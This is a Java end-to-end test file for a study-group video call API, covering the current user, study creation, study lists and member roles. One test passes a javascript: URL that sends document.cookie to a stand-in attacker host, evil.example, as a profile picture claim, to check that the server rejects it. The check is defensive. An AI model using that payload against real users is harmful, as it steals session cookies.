package io.coup.videocall.bootstrap.e2e;

import io.coup.videocall.bootstrap.e2e.Steps.Person;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

import java.util.stream.Stream;

import static io.coup.videocall.bootstrap.e2e.Api.assertError;
import static io.coup.videocall.bootstrap.e2e.Api.assertInstant;
import static io.coup.videocall.bootstrap.e2e.Api.assertInvalid;
import static io.coup.videocall.bootstrap.e2e.Api.assertKeys;
import static io.coup.videocall.bootstrap.e2e.Api.assertUser;
import static io.coup.videocall.bootstrap.e2e.Api.find;
import static io.coup.videocall.bootstrap.e2e.Api.strings;
import static io.coup.videocall.bootstrap.e2e.Steps.person;
import static org.assertj.core.api.Assertions.assertThat;

/** SPEC §4.1: the caller, studies and membership. */
class StudyApiTest extends EndToEndTest {

    private static final String[] MEMBER_KEYS = {"userId", "name", "avatar", "role", "status", "joinedAt"};

    private final Steps steps = new Steps(this);

    private static String members(String studyId) {
        return "/api/studies/" + studyId + "/members";
    }

    // --- GET /api/me ---------------------------------------------------------------------------------------------

    @Test
    void me_shows_the_caller_as_the_token_describes_them() {
        String id = unique("me");
        String avatar = "https://example.org/avatars/" + id + ".png";
        Response me = get("/api/me", token(claims -> claims.subject(id).claim("name", "Kim Minji").claim("picture", avatar)));

        assertThat(me.status()).isEqualTo(200);
        assertKeys(me.json(), "user");
        JsonNode user = me.json().get("user");
        assertUser(user, id, "Kim Minji");
        assertThat(user.get("avatar").stringValue()).isEqualTo(avatar);
    }

    @Test
    void a_picture_claim_that_is_no_http_url_is_not_kept_as_the_avatar() {
        String id = unique("me");
        Response me = get("/api/me", token(claims -> claims.subject(id).claim("name", "Eve").claim("picture",
                "javascript:fetch('https://evil.example/'+document.cookie)")));

        assertThat(me.status()).isEqualTo(200);
        assertThat(me.json().get("user").get("avatar").isNull()).isTrue();
    }

    @Test
    void me_follows_the_name_claim_of_the_latest_token() {
        String id = unique("renamed");
        assertThat(get("/api/me", token(id, "First Name")).json().path("user").path("name").stringValue()).isEqualTo("First Name");

        Response me = get("/api/me", token(id, "Second Name"));

        assertThat(me.status()).isEqualTo(200);
        assertUser(me.json().get("user"), id, "Second Name");
        assertThat(me.json().get("user").get("avatar").isNull()).isTrue();
    }

    @Test
    void me_falls_back_to_preferred_username_when_the_token_has_no_name() {
        String id = unique("preferred");
        Response me = get("/api/me", token(claims -> claims.subject(id).claim("preferred_username", "minji")));

        assertThat(me.status()).isEqualTo(200);
        assertUser(me.json().get("user"), id, "minji");
    }

    // --- POST /api/studies ---------------------------------------------------------------------------------------

    @Test
    void creating_a_study_makes_the_caller_its_active_owner() {
        Person owner = person("owner");
        String id = unique("study");

        Response created = post("/api/studies", owner.token(), "{\"id\":\"" + id + "\",\"name\":\"Algorithms\"}");

        assertThat(created.status()).as("%s", created).isEqualTo(201);
        assertKeys(created.json(), "study");
        JsonNode study = created.json().get("study");
        assertKeys(study, "id", "name", "createdAt", "myRole");
        assertThat(study.get("id").stringValue()).isEqualTo(id);
        assertThat(study.get("name").stringValue()).isEqualTo("Algorithms");
        assertInstant(study.get("createdAt"), CLOCK.instant());
        assertThat(study.get("myRole").stringValue()).isEqualTo("OWNER");

        JsonNode mine = find(get("/api/my-studies", owner.token()).json().get("studies"), "id", id);
        assertThat(mine.get("role").stringValue()).isEqualTo("OWNER");
        assertThat(mine.get("status").stringValue()).isEqualTo("ACTIVE");
        JsonNode me = find(get(members(id), owner.token()).json().get("members"), "userId", owner.id());
        assertThat(me.get("role").stringValue()).isEqualTo("OWNER");
        assertThat(me.get("status").stringValue()).isEqualTo("ACTIVE");
        assertThat(me.get("name").stringValue()).isEqualTo(owner.name());
    }

    @Test
    void a_study_created_without_an_id_gets_a_generated_one() {
        Person owner = person("owner");

        Response created = post("/api/studies", owner.token(), "{\"name\":\"No id given\"}");

        assertThat(created.status()).as("%s", created).isEqualTo(201);
        String id = created.json().get("study").get("id").stringValue();
        assertThat(id).matches("[A-Za-z0-9_-]{1,64}");
        assertThat(created.json().get("study").get("myRole").stringValue()).isEqualTo("OWNER");
        assertThat(get(members(id), owner.token()).status()).isEqualTo(200);
    }

    @Test
    void creating_a_study_with_a_taken_id_answers_409_STUDY_ALREADY_EXISTS() {
        Person owner = person("owner");
        String id = steps.study(owner);
        Person other = person("other");

        Response again = post("/api/studies", other.token(), "{\"id\":\"" + id + "\",\"name\":\"Mine now\"}");

        assertError(again, 409, "STUDY_ALREADY_EXISTS");
        assertThat(get(members(id), other.token()).status()).as("the taker did not become a member").isEqualTo(403);
    }

    static Stream<Arguments> invalidStudies() {
        return Stream.of(
                Arguments.of("{\"id\":\"has space\",\"name\":\"n\"}", "id"),
                Arguments.of("{\"id\":\"slash/in/id\",\"name\":\"n\"}", "id"),
                Arguments.of("{\"id\":\"" + "x".repeat(65) + "\",\"name\":\"n\"}", "id"),
                Arguments.of("{\"id\":\"\",\"name\":\"n\"}", "id"),
                Arguments.of("{\"name\":\"\"}", "name"),
                Arguments.of("{\"name\":\"   \"}", "name"),
                Arguments.of("{}", "name"),
                Arguments.of("{\"name\":\"" + "n".repeat(101) + "\"}", "name"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("invalidStudies")
    void an_invalid_study_id_or_name_answers_400_naming_the_field(String body, String field) {
        Response response = post("/api/studies", person("owner").token(), body);

        assertInvalid(response, field);
    }

    // --- GET /api/my-studies -------------------------------------------------------------------------------------

    @Test
    void my_studies_lists_only_active_memberships_each_with_its_call_in_progress() {
        Person owner = person("owner");
        Person user = person("user");
        String active = steps.study(owner);
        String quiet = steps.study(owner);
        String pending = steps.study(owner);
        String banned = steps.study(owner);
        String notMine = steps.study(owner);
        addMember(active, owner.token(), user.id());
        addMember(quiet, owner.token(), user.id());
        steps.setMember(pending, owner, user.id(), "{\"status\":\"PENDING\"}");
        steps.setMember(banned, owner, user.id(), "{\"status\":\"BANNED\"}");
        JsonNode session = steps.start(active, owner);
        steps.join(active, session.get("id").stringValue(), owner);

        Response response = get("/api/my-studies", user.token());

        assertThat(response.status()).isEqualTo(200);
        assertKeys(response.json(), "studies");
        JsonNode studies = response.json().get("studies");
        assertThat(strings(studies, "id")).containsExactlyInAnyOrder(active, quiet).doesNotContain(pending, banned, notMine);

        JsonNode withCall = find(studies, "id", active);
        assertKeys(withCall, "id", "name", "role", "status", "activeCall");
        assertThat(withCall.get("name").stringValue()).isEqualTo("Study " + active);
        assertThat(withCall.get("role").stringValue()).isEqualTo("MEMBER");
        assertThat(withCall.get("status").stringValue()).isEqualTo("ACTIVE");
        JsonNode call = withCall.get("activeCall");
        assertKeys(call, "sessionId", "roomId", "startedAt", "participantCount");
        assertThat(call.get("sessionId").stringValue()).isEqualTo(session.get("id").stringValue());
        assertThat(call.get("roomId").stringValue()).isEqualTo(session.get("roomId").stringValue());
        assertThat(call.get("startedAt").stringValue()).isEqualTo(session.get("startedAt").stringValue());
        assertThat(call.get("participantCount").intValue()).isEqualTo(1);

        JsonNode withoutCall = find(studies, "id", quiet);
        assertThat(withoutCall.has("activeCall")).isTrue();
        assertThat(withoutCall.get("activeCall").isNull()).isTrue();
    }

    @Test
    void my_studies_no_longer_show_a_call_once_it_has_ended() {
        Person owner = person("owner");
        String study = steps.study(owner);
        String session = steps.startId(study, owner);
        steps.join(study, session, owner);
        steps.leave(study, session, owner);

        JsonNode mine = find(get("/api/my-studies", owner.token()).json().get("studies"), "id", study);

        assertThat(mine.get("activeCall").isNull()).as("%s", mine).isTrue();
    }

    // --- GET /api/studies/{id}/members ---------------------------------------------------------------------------

    @Test
    void the_members_list_shows_active_members_with_their_profile_and_role() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person member = steps.member(study, owner, "member");
        String neverSignedIn = unique("quiet");
        addMember(study, owner.token(), neverSignedIn);
        String pending = unique("pending");
        steps.setMember(study, owner, pending, "{\"status\":\"PENDING\"}");

        Response response = get(members(study), member.token());

        assertThat(response.status()).isEqualTo(200);
        assertKeys(response.json(), "members");
        JsonNode list = response.json().get("members");
        assertThat(strings(list, "userId")).containsExactlyInAnyOrder(owner.id(), member.id(), neverSignedIn);
        for (JsonNode m : list.values()) {
            assertKeys(m, MEMBER_KEYS);
            assertThat(m.get("status").stringValue()).isEqualTo("ACTIVE");
            assertInstant(m.get("joinedAt"));
        }
        JsonNode m = find(list, "userId", member.id());
        assertThat(m.get("name").stringValue()).isEqualTo(member.name());
        assertThat(m.get("role").stringValue()).isEqualTo("MEMBER");
        assertThat(m.get("avatar").isNull()).isTrue();
        assertThat(find(list, "userId", owner.id()).get("role").stringValue()).isEqualTo("OWNER");
        assertThat(find(list, "userId", neverSignedIn).get("name").isNull())
                .as("a user added by id who never signed in has no name").isTrue();
    }

    // --- PUT /api/studies/{id}/members/{userId} ------------------------------------------------------------------

    @Test
    void an_owner_adds_a_member_who_is_an_active_MEMBER_by_default() {
        Person owner = person("owner");
        String study = steps.study(owner);
        String userId = unique("new");

        Response response = put(members(study) + "/" + userId, owner.token(), "{}");

        assertThat(response.status()).as("%s", response).isEqualTo(200);
        assertKeys(response.json(), "member");
        JsonNode member = response.json().get("member");
        assertKeys(member, MEMBER_KEYS);
        assertThat(member.get("userId").stringValue()).isEqualTo(userId);
        assertThat(member.get("role").stringValue()).isEqualTo("MEMBER");
        assertThat(member.get("status").stringValue()).isEqualTo("ACTIVE");
        assertInstant(member.get("joinedAt"), CLOCK.instant());
        assertThat(member.get("name").isNull()).isTrue();
    }

    @Test
    void an_owner_appoints_an_admin_who_may_then_add_members() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person admin = steps.member(study, owner, "admin");

        Response appointed = put(members(study) + "/" + admin.id(), owner.token(), "{\"role\":\"ADMIN\"}");

        assertThat(appointed.status()).as("%s", appointed).isEqualTo(200);
        assertThat(appointed.json().get("member").get("role").stringValue()).isEqualTo("ADMIN");
        assertThat(appointed.json().get("member").get("name").stringValue()).isEqualTo(admin.name());
        Response added = put(members(study) + "/" + unique("newcomer"), admin.token(), "{}");
        assertThat(added.status()).as("%s", added).isEqualTo(200);
    }

    @Test
    void an_admin_may_not_appoint_admins_only_an_owner_may() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person admin = steps.member(study, owner, "admin");
        steps.setMember(study, owner, admin.id(), "{\"role\":\"ADMIN\"}");
        Person member = steps.member(study, owner, "member");

        Response response = put(members(study) + "/" + member.id(), admin.token(), "{\"role\":\"ADMIN\"}");

        assertError(response, 403, "PERMISSION_DENIED");
        assertThat(find(get(members(study), owner.token()).json().get("members"), "userId", member.id())
                .get("role").stringValue()).isEqualTo("MEMBER");
    }

    @Test
    void a_plain_member_may_not_change_members() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person member = steps.member(study, owner, "member");

        assertError(put(members(study) + "/" + unique("friend"), member.token(), "{}"), 403, "PERMISSION_DENIED");
        assertError(put(members(study) + "/" + member.id(), member.token(), "{\"role\":\"OWNER\"}"), 403, "PERMISSION_DENIED");
        assertError(put(members(study) + "/" + owner.id(), member.token(), "{\"status\":\"BANNED\"}"), 403, "PERMISSION_DENIED");
        assertThat(strings(get(members(study), owner.token()).json().get("members"), "userId"))
                .containsExactlyInAnyOrder(owner.id(), member.id());
    }

    @Test
    void the_last_owner_cannot_be_demoted_deactivated_or_removed() {
        Person owner = person("owner");
        String study = steps.study(owner);

        JsonNode demoted = assertError(put(members(study) + "/" + owner.id(), owner.token(), "{\"role\":\"MEMBER\"}"), 409, "LAST_OWNER");
        assertError(put(members(study) + "/" + owner.id(), owner.token(), "{\"status\":\"PENDING\"}"), 409, "LAST_OWNER");
        assertError(delete(members(study) + "/" + owner.id(), owner.token()), 409, "LAST_OWNER");

        assertThat(demoted.get("error").stringValue()).isNotBlank();
        JsonNode me = find(get(members(study), owner.token()).json().get("members"), "userId", owner.id());
        assertThat(me.get("role").stringValue()).isEqualTo("OWNER");
    }

    @Test
    void an_owner_may_step_down_once_another_owner_exists() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person second = steps.member(study, owner, "second");
        steps.setMember(study, owner, second.id(), "{\"role\":\"OWNER\"}");

        Response response = put(members(study) + "/" + owner.id(), owner.token(), "{\"role\":\"MEMBER\"}");

        assertThat(response.status()).as("%s", response).isEqualTo(200);
        assertThat(response.json().get("member").get("role").stringValue()).isEqualTo("MEMBER");
    }

    @Test
    void an_unknown_role_or_status_answers_400_naming_the_field() {
        Person owner = person("owner");
        String study = steps.study(owner);

        assertInvalid(put(members(study) + "/" + unique("u"), owner.token(), "{\"role\":\"KING\"}"), "role");
        assertInvalid(put(members(study) + "/" + unique("u"), owner.token(), "{\"status\":\"GONE\"}"), "status");
    }

    // --- DELETE /api/studies/{id}/members/{userId} ---------------------------------------------------------------

    @Test
    void a_member_may_leave_the_study_by_themself() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person member = steps.member(study, owner, "member");

        Response response = delete(members(study) + "/" + member.id(), member.token());

        assertThat(response.status()).as("%s", response).isEqualTo(204);
        assertThat(response.body()).isEmpty();
        assertError(get(members(study), member.token()), 403, "NOT_STUDY_MEMBER");
        assertThat(strings(get(members(study), owner.token()).json().get("members"), "userId")).containsExactly(owner.id());
        assertThat(strings(get("/api/my-studies", member.token()).json().get("studies"), "id")).doesNotContain(study);
    }

    @Test
    void a_moderator_removes_a_member() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person member = steps.member(study, owner, "member");

        Response response = delete(members(study) + "/" + member.id(), owner.token());

        assertThat(response.status()).as("%s", response).isEqualTo(204);
        assertError(get(members(study), member.token()), 403, "NOT_STUDY_MEMBER");
    }

    @Test
    void a_plain_member_may_not_remove_another_member() {
        Person owner = person("owner");
        String study = steps.study(owner);
        Person member = steps.member(study, owner, "member");
        Person other = steps.member(study, owner, "other");

        assertError(delete(members(study) + "/" + other.id(), member.token()), 403, "PERMISSION_DENIED");
        assertThat(strings(get(members(study), owner.token()).json().get("members"), "userId")).contains(other.id());
    }

    @Test
    void removing_someone_who_is_not_a_member_answers_404_USER_NOT_FOUND() {
        Person owner = person("owner");
        String study = steps.study(owner);

        assertError(delete(members(study) + "/" + unique("stranger"), owner.token()), 404, "USER_NOT_FOUND");
    }
}
